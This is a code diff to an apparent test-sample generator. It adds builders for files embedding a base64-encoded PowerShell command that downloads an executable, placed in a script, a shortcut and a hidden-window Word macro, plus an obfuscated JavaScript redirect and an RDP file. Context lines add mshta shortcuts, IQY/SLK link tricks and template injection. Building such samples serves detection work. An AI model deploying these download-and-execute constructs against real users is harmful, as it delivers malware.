@@ -337,6 +337,17 @@ def pieces(link):
                                                      link[7:] + b'"\\))', None))
 
 
+def commands_in_base64(link):
+    """What PowerShell takes as -EncodedCommand, and a script in a script."""
+    coded = base64.b64encode(('iwr ' + link.decode() + ' -OutFile c:\\x.exe').encode('utf-16le'))
+    yield 'command', 'a.ps1', b'powershell -enc ' + coded
+    yield 'command in a link file', 'a.lnk', shortcut('/c powershell -e ' + coded.decode())
+    yield 'command in a macro', 'a.doc', ole_file(Storage({'Macros': macro_project(
+        b'Shell "powershell -w hidden -enc ' + coded + b'"\r\n')}))
+    yield 'script in a script', 'a.js', b'eval(atob("' + base64.b64encode(
+        b'location.href="' + link + b'";' + b'/' * 40) + b'"))'
+
+
 def shares(host):
     path = f'\\\\{host}@SSL\\DavWWWRoot\\a.dotm'
     yield 'share in a relation', 'a.docx', docx([('word/_rels/settings.xml.rels', relation(path, 'attachedTemplate'))])
@@ -364,6 +375,7 @@ def commands():
 def plain_links(link):
     text = link.decode()
     yield 'link file', 'a.lnk', shortcut(f'/c mshta {text}')
+    yield 'remote desktop', 'a.rdp', f'full address:s:{text.split("/")[2]}:3389\r\n'.encode('utf-16')
     yield 'link file, counted', 'a.lnk', shortcut(f'{text}'.ljust(0x41))
     yield 'query file', 'a.iqy', b'WEB\r\n1\r\n' + link + b'\r\n'
     yield 'table', 'a.slk', b'ID;P\r\nC;X1;Y1;K0;ECALL("urlmon","' + link + b'")\r\nE\r\n'
